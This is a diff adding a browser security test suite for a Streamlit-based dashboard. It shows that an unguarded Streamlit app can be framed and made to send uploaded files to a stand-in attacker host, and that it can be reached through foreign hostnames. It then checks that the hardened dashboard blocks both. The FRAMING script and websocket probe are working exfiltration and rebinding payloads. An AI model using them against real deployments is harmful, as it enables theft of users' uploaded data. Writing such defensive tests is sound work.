@@ -1,0 +1,196 @@
+"""Attacks of strangers, played in a real browser: what other pages, names and machines could get out of the dashboard.
+
+Each attack is played against a program with Streamlit's own settings as well, on which it must succeed.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import sys
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.client import HTTPConnection
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Page, Route, expect
+
+from tests.browser.conftest import FOREIGN, PATIENCE, Dashboard, free_port, served, started
+from tests.browser.test_journey import button, solve_sample, upload
+
+pytestmark = pytest.mark.browser
+
+HERE = Path(__file__).parent
+EVIL = "https://anybody.streamlit.app"
+"""A page that anybody could have: Streamlit trusts all of this domain."""
+
+FRAMING = """<!doctype html><iframe src="{url}" width="1200" height="700"></iframe><script>
+const message = {{stCommVersion: 1, type: "SET_FILE_UPLOAD_CLIENT_CONFIG", prefix: "{evil}/stolen", headers: {{}}}};
+setInterval(() => frames[0].postMessage(message, "*"), 100);
+</script>"""
+
+CALL = """() => new Promise(answer => {
+    const line = new WebSocket("ws://" + location.host + "/_stcore/stream", ["streamlit"]);
+    line.onopen = () => answer("taken");
+    line.onerror = () => answer("refused");
+})"""
+
+
+@pytest.fixture(scope="module")
+def unguarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
+    """A program with Streamlit's own settings."""
+    folder, port = tmp_path_factory.mktemp("unguarded"), free_port()
+    command = [sys.executable, "-m", "streamlit", "run", str(HERE / "unguarded" / "script.py"), f"--server.port={port}"]
+    command += ["--server.address=127.0.0.1", "--server.headless=true", "--browser.gatherUsageStats=false"]
+    with served(command, port, folder / "log.txt", cwd=folder) as running:
+        yield running
+
+
+@contextmanager
+def visitor(browser: Browser) -> Iterator[Page]:
+    """A browser in which nobody has been anywhere, and which lets pages of others reach this machine, as many do."""
+    context = browser.new_context(viewport={"width": 1366, "height": 768}, permissions=["local-network-access"])
+    page = context.new_page()
+    page.set_default_timeout(1000 * PATIENCE)
+    expect.set_options(timeout=1000 * PATIENCE)
+    yield page
+    context.close()
+
+
+def framed(page: Page, url: str) -> list[bytes]:
+    """Visit the page that frames a program and asks it for the files of its user; what arrives, then and later."""
+    arrived: list[bytes] = []
+
+    def answer(route: Route) -> None:
+        if route.request.url == f"{EVIL}/":
+            route.fulfill(body=FRAMING.format(url=url, evil=EVIL), content_type="text/html")
+            return
+        if route.request.method == "PUT":
+            arrived.append(route.request.post_data_buffer or b"")
+        permitted = {"Access-Control-Allow-Origin": url, "Access-Control-Allow-Credentials": "true"}
+        permitted |= {
+            "Access-Control-Allow-Headers": "X-Xsrftoken, Content-Type",
+            "Access-Control-Allow-Methods": "PUT",
+        }
+        route.fulfill(status=204, headers=permitted)
+
+    page.route(f"{EVIL}/**", answer)
+    page.goto(f"{EVIL}/")
+    return arrived
+
+
+def test_framing_steals_from_streamlits_own_settings(browser: Browser, unguarded: Dashboard) -> None:
+    """The attack of the next test is one: the file that is given to the frame arrives at the page around it."""
+    with visitor(browser) as page:
+        arrived = framed(page, unguarded.url)
+        frame = page.frame_locator("iframe")
+        expect(frame.get_by_role("heading", name="Unguarded")).to_be_visible()
+        page.wait_for_timeout(500)
+        table = {"name": "patients.csv", "mimeType": "text/csv", "buffer": b"age,ill\n70,yes\n"}
+        with page.expect_request_finished(lambda asked: asked.method == "PUT"):
+            frame.locator("input[type=file]").set_input_files(table)
+        assert b"70,yes" in arrived[0]
+
+
+def test_no_page_frames_the_dashboard(browser: Browser, dashboard: Dashboard) -> None:
+    """A page of another origin shows nothing of the dashboard in its frame, so that nobody gives it a file there."""
+    with visitor(browser) as page:
+        arrived = framed(page, dashboard.url)
+        page.wait_for_function("window.frames.length === 1")
+        page.wait_for_load_state("networkidle")
+        (frame,) = page.frames[1:]
+        assert frame.url == "chrome-error://chromewebdata/"
+        assert frame.locator("input").count() == 0 and not arrived
+
+
+def test_no_page_sends_messages_to_the_dashboard(dashboard: Dashboard) -> None:
+    """Where a browser frames it after all, the dashboard listens to no page around it."""
+    _, _, body = asked(dashboard, "/_stcore/host-config")
+    assert json.loads(body)["allowedOrigins"] == []
+
+
+def rebound(page: Page, program: Dashboard) -> str:
+    """Call a program's websocket from a page at a foreign name that leads to this machine; 'taken' or 'refused'."""
+    page.goto(f"http://{FOREIGN}:{urlsplit(program.url).port}/_stcore/health")
+    return page.evaluate(CALL)
+
+
+def test_foreign_names_open_streamlits_own_settings(browser: Browser, unguarded: Dashboard) -> None:
+    """The attacks of the next test are some: the program shows itself, and its websocket is open."""
+    with visitor(browser) as page:
+        assert rebound(page, unguarded) == "taken"
+        page.goto(f"http://{FOREIGN}:{urlsplit(unguarded.url).port}/")
+        expect(page.get_by_role("heading", name="Unguarded")).to_be_visible()
+
+
+def test_foreign_names_show_nothing(browser: Browser, dashboard: Dashboard) -> None:
+    """At a name that is not this machine's there is a sentence and no dashboard, and no websocket is open."""
+    with visitor(browser) as page:
+        assert rebound(page, dashboard) == "refused"
+        for screen in ("", "runs", "static/js/x.js", "_stcore/host-config"):
+            answer = page.goto(f"http://{FOREIGN}:{urlsplit(dashboard.url).port}/{screen}")
+            assert answer.status == 403 and "ESPALIER_HOSTS" in answer.text()
+        expect(page.get_by_role("link")).to_have_count(0)
+
+
+def asked(program: Dashboard, path: str, **headers: str) -> tuple[int, dict[str, str], bytes]:
+    """The status, headers and body of what a program answers."""
+    connection = HTTPConnection(urlsplit(program.url).netloc, timeout=PATIENCE)
+    connection.request("GET", path, headers=headers)
+    answer = connection.getresponse()
+    told = {name.lower(): value for name, value in answer.getheaders()}
+    body = answer.read()
+    connection.close()
+    return answer.status, told, body
+
+
+def test_nothing_is_kept_and_nothing_is_counted(dashboard: Dashboard) -> None:
+    """No answer is kept by a browser but the program's own files, and nobody reads how much the program is used."""
+    assert asked(dashboard, "/_stcore/metrics")[0] == 404
+    status, told, body = asked(dashboard, "/")
+    assert (status, told["cache-control"]) == (200, "no-store")
+    assert told["content-security-policy"] == "frame-ancestors 'none'"
+    assert asked(dashboard, "/media/0123456789.csv")[1]["cache-control"] == "no-store"
+    (script,) = re.findall(rb'src="\./(static/js/index[^"]+)"', body)
+    assert "public" in asked(dashboard, f"/{script.decode()}")[1]["cache-control"]
+
+
+def test_the_names_of_a_deployment_are_let_in(browser: Browser, tmp_path: Path) -> None:
+    """A name of ESPALIER_HOSTS shows the dashboard, through its websocket too."""
+    told = {"ESPALIER_HOSTS": FOREIGN}
+    with started(tmp_path / "runs", tmp_path / "log.txt", told=told) as here, visitor(browser) as page:
+        page.goto(here.url.replace("127.0.0.1", FOREIGN))
+        expect(page.get_by_role("heading", name="Choose a table")).to_be_visible()
+
+
+def test_the_program_connects_to_this_machine_only(browser: Browser, tmp_path: Path) -> None:
+    """From the start over a sample, a proved tree, an export and a file, whatever a stranger asks for besides."""
+    noted, log = tmp_path / "connections.jsonl", tmp_path / "log.txt"
+    told = {"PYTHONPATH": str(HERE / "connections"), "ESPALIER_TEST_CONNECTIONS": str(noted)}
+    with started(tmp_path / "runs", log, told=told) as here, visitor(browser) as page:
+        page.goto(here.url)
+        solve_sample(page, "Iris")
+        button(page, "Inspect the tree").click()
+        expect(page.get_by_text("All rows", exact=True)).to_be_visible()
+        page.get_by_role("tab", name="Rules and export").click()
+        with page.expect_download():
+            page.get_by_role("button", name="SVG").click()
+        page.get_by_role("link", name="Data", exact=True).click()
+        button(page, "Another table").click()
+        upload(page, "own.csv", b"a,b,y\n" + b"".join(b"%d,%d,%d\n" % (i, i % 7, i % 2) for i in range(40)))
+        expect(page.get_by_role("heading", name="own", exact=True)).to_be_visible()
+        upgrade = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13"}
+        upgrade |= {"Sec-WebSocket-Key": "MDEyMzQ1Njc4OWFiY2RlZg==", "Origin": "https://stranger.example"}
+        assert asked(here, "/_stcore/stream", **upgrade)[0] == 403
+    lines = [json.loads(line) for line in noted.read_text().splitlines()]
+    programs = [words for _, event, words in lines if event == "start"]
+    assert any("streamlit" in words for words in programs) and any("solvers.run.worker" in words for words in programs)
+    outside = [line for line in lines if line[1] != "start" and not at_home(line[2])]
+    assert not outside
+
+
+def at_home(host: str) -> bool:
+    """Whether an address is this machine's own: one of its loop, none at all, or a file."""
+    return host in ("localhost", "127.0.0.1", "::1", "None", "") or host.startswith(("/", "\0", "b'"))
